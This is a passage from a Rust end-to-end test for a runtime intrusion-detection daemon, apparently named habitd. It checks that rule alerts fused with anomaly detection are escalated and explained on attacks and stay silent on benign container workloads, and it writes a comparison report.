    // Every fused rule alert of the attack phase (a rule hit not suppressed) must be escalated
    // one priority above the priority its rule declares and carry its explanation: the novel
    // items (dimension and item) and a score. Suppressed hits keep the declared priority (which
    // checks that the declared priorities read here are the ones the daemon loaded).
    let declared = declared_priorities();
    let mut escalation = Vec::new();
    let mut fused_alerts = 0;
    for a in alerts.iter().filter(mine).filter(|a| is_rule_hit(a)) {
        let rule = a["rule"].as_str().unwrap_or("");
        let Some(own) = declared.get(rule).copied() else {
            escalation.push(format!(
                "rule `{rule}` is not in habitd_rules.yaml: {}",
                short(a)
            ));
            continue;
        };
        let priority = a["priority"].as_str().unwrap_or("");
        if suppressed(a) {
            if priority != own {
                escalation.push(format!(
                    "suppressed hit of `{rule}` at {priority}, not its declared {own}: {}",
                    short(a)
                ));
            }
            continue;
        }
        if counted_time(a) < t_attack {
            continue;
        }
        fused_alerts += 1;
        let explained = a["habitd"]["novel"].as_array().is_some_and(|n| {
            !n.is_empty()
                && n.iter().all(|x| {
                    x["dimension"].as_str().is_some_and(|d| !d.is_empty())
                        && x["item"].as_str().is_some_and(|i| !i.is_empty())
                })
        });
        let score = a["habitd"]["anomaly_score"].as_f64().unwrap_or(0.0);
        if priority != one_above(own)
            || !explained
            || score <= 0.0
            || a["habitd"]["baseline_state"] != "stable"
        {
            escalation.push(format!(
                "fused alert of `{rule}` (declared {own}) not escalated to {} and explained \
                 (priority {priority}, score {score}, baseline {}): {}",
                one_above(own),
                a["habitd"]["baseline_state"],
                short(a)
            ));
        }
    }

    // ---- the report -------------------------------------------------------------------------
    let mut md = String::new();
    md.push_str("# habitd fusion evaluation (tests/fusion_e2e.rs)\n\n");
    md.push_str(&format!(
        "Workloads: (A) `{WEB_KEY}`: web server, shell-script entrypoint, shell health check, \
         2 replicas (+1 started in detection); (B) `{WORKER_KEY}`: worker provisioning itself \
         at start, a shell per job, 2 replicas (+1 started in detection, with another pause \
         between jobs); (C) `{SINGLE_KEY}`: the web server as a single replica. Learned in \
         {:.1} s; benign detection window {} s, not a replay of learning (health checks and \
         clients at irregular intervals, probe numbers, query strings and job numbers never \
         seen while learning); whole run {:.1} s.\n\n",
        learned_after.as_secs_f64(),
        BENIGN_WINDOW.as_secs(),
        started.elapsed().as_secs_f64()
    ));
    md.push_str("## Benign behaviour in detection\n\n");
    md.push_str("| scenario | rule | rules alone (hits) | habitd with fusion (alerts) |\n");
    md.push_str("|---|---|---:|---:|\n");
    for ((scenario, rule), (r, f)) in &benign_by {
        md.push_str(&format!("| {scenario} | {rule} | {r} | {f} |\n"));
    }
    for (s, _) in SCENARIOS {
        md.push_str(&format!(
            "| **{s}** | **rule alerts** | **{}** | **{}** |\n",
            benign_rules(s),
            benign_fusion_rules(s)
        ));
    }
    md.push_str(&format!(
        "\nBenign anomaly alerts (no rule; `habitd anomaly`): {}. Cross-check from /metrics \
         over the window (whole node, other workloads included): habitd_rule_hits_total \
         +{hits_during}, habitd_alerts_suppressed_total +{suppressed_during}. Rule alerts \
         while learning (alerted as they are): {learning_hits}.\n\n",
        benign_anomalies.len()
    ));
    md.push_str("## Attacks after learning\n\n");
    md.push_str(
        "| scenario | attack | rules alone (hits) | fusion (alerts) | rules: hits/alerts \
         (fusion priority, novel) | detected (rules / fusion) | anomaly alerts while it ran |\n",
    );
    md.push_str("|---|---|---:|---:|---|---|---|\n");
    for r in &results {
        let rules = r
            .per_rule
            .iter()
            .map(|(rule, h, f, p, novel)| {
                format!(
                    "{rule}: {h}/{f} ({}{})",
                    if p.is_empty() { "-" } else { p },
                    if *novel { ", novel" } else { "" }
                )
            })
            .chain(r.also.iter().map(|(rule, h, f, _, _)| {
                format!(
                    "(also: {rule}: {h}/{f}{})",
                    if *f == 0 { ", suppressed" } else { "" }
                )
            }))
            .collect::<Vec<_>>()
            .join("; ");
        md.push_str(&format!(
            "| {} | {} | {} | {} | {} | {} / {} | {} |\n",
            r.scenario,
            r.name,
            r.rules_alone(),
            r.fusion(),
            rules,
            if r.detected_by_rules() { "yes" } else { "NO" },
            if r.detected_by_fusion() { "yes" } else { "NO" },
            r.anomalies.join("; ").replace('|', "\\|"),
        ));
    }
    md.push_str(&format!(
        "\nFused rule alerts of the attack phase: {fused_alerts}, {} of them escalated one \
         priority above their rule's and explained (novel items and score).\n",
        fused_alerts - escalation.iter().filter(|e| e.starts_with("fused")).count()
    ));
    let detected_rules = results.iter().filter(|r| r.detected_by_rules()).count();
    let detected_fusion = results.iter().filter(|r| r.detected_by_fusion()).count();
    md.push_str(&format!(
        "\n**Summary**: benign rule alerts in detection, rules alone {} vs fusion {} (plus {} \
         benign anomaly alerts); attacks detected, rules alone {detected_rules}/{n} vs fusion \
         {detected_fusion}/{n}.\n",
        SCENARIOS.iter().map(|(s, _)| benign_rules(s)).sum::<u64>(),
        SCENARIOS
            .iter()
            .map(|(s, _)| benign_fusion_rules(s))
            .sum::<u64>(),
        benign_anomalies.len(),
        n = results.len()
    ));
    println!("\n{md}");
    if let Err(e) = std::fs::write(target.join("fusion_eval.md"), &md) {
        println!("could not write target/fusion_eval.md: {e}");
    }

    // ---- the assertions ---------------------------------------------------------------------
    let context = || {
        format!(
            "benign non-suppressed alerts: {benign_unsuppressed:#?}\nalerts (not suppressed) of the \
             attack phase: {attack_alerts:#?}\nhabitd log tail:\n{}\n(all alerts: target/fusion_eval.alerts.jsonl)",
            tail(&log, 20)
        )
    };
    let mut failures = Vec::new();
    for (s, _) in SCENARIOS {
        if benign_rules(s) == 0 {
            failures.push(format!(
                "the {s} workload's normal life in detection tripped no rule: the scenario no \
                 longer measures anything"
            ));
        }
    }
    let fusion_benign: u64 = SCENARIOS.iter().map(|(s, _)| benign_fusion_rules(s)).sum();
    if fusion_benign != 0 {
        failures.push(format!(
            "fusion raised {fusion_benign} rule alerts on benign behaviour in detection (target 0)"
        ));
    }
    // No anomaly alert either: the benign window's behaviour is the learned habit (with other
    // numbers and timing), so nothing in it is novel.
    if !benign_anomalies.is_empty() {
        failures.push(format!(
            "{} anomaly alerts on benign behaviour in detection (target 0): {:#?}",
            benign_anomalies.len(),
            benign_anomalies
                .iter()
                .map(|a| short(a))
                .collect::<Vec<_>>()
        ));
    }
    if fused_alerts == 0 {
        failures.push("no fused rule alert in the attack phase".to_string());
    }
    failures.extend(escalation.iter().cloned());
    for (i, r) in results.iter().enumerate() {
        let attack = &attacks[i];
        let (t0, t1) = window(i);
        let container = match attack.target {
            Target::Web => &web[0].id[..12],
            Target::Worker => &workers[0].id[..12],
        };
        for (rule, h, f, _, _) in &r.per_rule {
            if *h > 0 && *f > 0 {
                continue;
            }
            let what = if *h == 0 {
                "did not hit".to_string()
            } else {
                let lines: Vec<String> = alerts
                    .iter()
                    .filter(|a| {
                        let t = counted_time(a);
                        a["rule"] == *rule && t >= t0 && t < t1 && (attack.matches)(a)
                    })
                    .map(|a| a.to_string())
                    .collect();
                format!("hit but fusion suppressed it: {lines:#?}")
            };
            // What habitd saw of the attack (its container, its time), to tell why.
            let seen: Vec<String> = events
                .iter()
                .filter(|e| {
                    let f = &e["output_fields"];
                    let t = e["time"].as_str().and_then(common::parse_rfc3339);
                    f["container.id"] == container
                        && t.is_some_and(|t| t >= t0 && t < t1)
                        && !matches!(e["kind"].as_str(), Some("fork" | "exit" | "accept"))
                        && !is_benign_process(f)
                })
                .take(12)
                .map(|e| {
                    let f = &e["output_fields"];
                    format!(
                        "{} {} name={} exepath={} fd.name={} args={}",
                        e["kind"].as_str().unwrap_or(""),
                        f["evt.type"].as_str().unwrap_or(""),
                        f["proc.name"].as_str().unwrap_or(""),
                        f["proc.exepath"].as_str().unwrap_or(""),
                        f["fd.name"].as_str().unwrap_or(""),
                        f["proc.args"].as_str().unwrap_or(""),
                    )
                })
                .collect();
            failures.push(format!(
                "attack `{}` ({}): rule `{rule}` {what}\n  events of the attack: {seen:#?}",
                r.name, r.scenario
            ));
        }
    }
    if results.len() < 10 {
        failures.push(format!("only {} attacks (at least ten)", results.len()));
    }
    assert!(failures.is_empty(), "{failures:#?}\n{}", context());
    drop(worker3);
    drop(web3);
    println!("fusion_e2e took {:.1} s", started.elapsed().as_secs_f64());
}
